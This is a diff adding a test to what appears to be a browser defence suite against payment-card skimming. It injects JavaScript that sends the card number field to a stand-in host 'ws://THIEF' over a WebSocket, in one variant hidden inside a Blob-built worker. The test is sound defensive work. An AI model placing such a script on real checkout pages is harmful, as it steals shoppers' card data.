@@ -66,3 +66,35 @@ def test_ways_that_are_always_shut_stay_shut(scene: Scene, way: str) -> None:
     prepare(scene, SHUT[way])
     control(scene, arrives=False)
     attack(scene)
+
+
+EARLY = {
+    "page": "line = new WebSocket('ws://THIEF/early'); line.onopen = opened",
+    "worker": """const code = `const line = new WebSocket('ws://THIEF/early');
+        line.onopen = () => postMessage(0); onmessage = (event) => line.send(event.data)`;
+        const worker = new Worker(URL.createObjectURL(new Blob([code])));
+        worker.onmessage = opened; line = {send: (text) => worker.postMessage(text)}""",
+}
+
+
+@pytest.mark.parametrize("opener", EARLY)
+def test_a_line_opened_before_the_card_is_cut(scene: Scene, opener: str) -> None:
+    """The control: before the card is filled the line carries."""
+    scene.put(f"""{payment_form()}<script>let line, open = false;
+        const opened = () => {{ open = true; }};
+        {EARLY[opener]};
+        let rounds = 0;
+        document.addEventListener('input', () => setInterval(() => {{
+          line.send(document.getElementById('number').value);
+          rounds += 1;
+          if (rounds < 12) fetch('/after?' + rounds);
+        }}, 30), {{once: true}});</script>""")
+    assert scene.open()
+    scene.until("open")
+    heard = len(scene.thief.heard)
+    scene.ask("line.send('control')")
+    scene.wait(lambda: len(scene.thief.heard) > heard)
+    heard = len(scene.thief.heard)
+    scene.fill()
+    scene.wait(lambda: f"GET /after?{ROUNDS}" in scene.shop.requests)
+    assert scene.thief.heard[heard:] == b""
